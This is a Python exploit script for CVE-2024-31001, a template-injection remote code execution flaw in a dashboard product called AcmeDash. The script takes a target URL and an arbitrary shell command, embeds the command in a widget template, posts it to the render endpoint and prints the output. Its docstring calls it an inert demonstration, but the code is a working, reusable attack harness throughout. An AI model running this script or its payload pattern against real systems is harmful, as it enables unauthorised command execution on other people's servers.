#!/usr/bin/env python3
"""Exploit for CVE-2024-31001: AcmeDash widget template remote code execution.

This is an inert demonstration harness: the rendered template below is a
fictional AcmeDash macro and does nothing outside the AcmeDash demo app.
"""
import argparse
import sys

import requests

TEMPLATE = "{{widget.init(%(cmd)r)}}"


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(description="CVE-2024-31001 exploit")
    parser.add_argument("--target", required=True, help="base URL, e.g. http://dash.example:8080")
    parser.add_argument("--cmd", default="id", help="command for the rendered widget to run")
    return parser


def run(target_url: str, cmd: str) -> str:
    payload = {"name": "status-widget", "template": TEMPLATE % {"cmd": cmd}}
    response = requests.post(f"{target_url}/api/widgets/render", json=payload, timeout=10)
    response.raise_for_status()
    return response.text


if __name__ == "__main__":
    args = build_parser().parse_args()
    sys.stdout.write(run(args.target, args.cmd))
